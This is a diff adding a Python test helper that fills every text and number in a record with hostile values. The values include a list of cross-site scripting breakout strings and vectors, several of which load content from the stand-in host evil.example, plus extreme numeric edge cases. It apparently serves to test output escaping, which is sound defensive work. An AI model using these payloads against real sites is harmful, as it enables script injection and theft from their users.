@@ -1,0 +1,71 @@
+"""Records of every kind with what nobody should write into them."""
+
+from __future__ import annotations
+
+import itertools
+from collections.abc import Callable, Mapping
+from dataclasses import fields, is_dataclass
+from enum import Enum
+from typing import Any
+
+BREAKOUTS = (
+    "",
+    '"',
+    "'",
+    '">',
+    "'>",
+    "</td>",
+    "</title>",
+    "</style>",
+    "</svg>",
+    "-->",
+    "]]>",
+    "\x00\x1b[2J",
+    "\u202e",
+    "&lt;",
+)
+VECTORS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<iframe src=//evil.example></iframe>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
+    "<object data=//evil.example></object>",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+    " onmouseover=alert(1) style=background:url(//evil.example) x=",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<!--<img src='--><img src=x onerror=alert(1)>",
+)  # fmt: skip
+PAYLOADS = [f"{breakout}{vector}" for breakout, vector in itertools.product(BREAKOUTS, VECTORS)]
+
+NUMBERS = (0, -1, 1, 1e308, -1e308, 5e-324, 1e15, 1e100, float("inf"), float("-inf"), float("nan"))
+COUNTS = (0, -1, 1, 2**63, 10**400, -(10**400))
+
+
+def changed(value: Any, change: Callable[[Any], Any]) -> Any:
+    """A record with `change` made to every text and number in it, keys of mappings included, however deep they lie."""
+    if is_dataclass(value) and not isinstance(value, type):
+        return type(value)(**{each.name: changed(getattr(value, each.name), change) for each in fields(value)})
+    if isinstance(value, Mapping):
+        return {change(key): changed(item, change) for key, item in value.items()}
+    if isinstance(value, tuple | list):
+        return type(value)(changed(item, change) for item in value)
+    if value is None or isinstance(value, bool | Enum):
+        return value
+    return change(value)
+
+
+def with_texts(value: Any, texts: Callable[[], str]) -> Any:
+    return changed(value, lambda item: texts() if isinstance(item, str) else item)
+
+
+def with_numbers(value: Any, numbers: Callable[[], float], counts: Callable[[], int]) -> Any:
+    return changed(
+        value,
+        lambda item: item if isinstance(item, str) else counts() if isinstance(item, int) else numbers(),
+    )
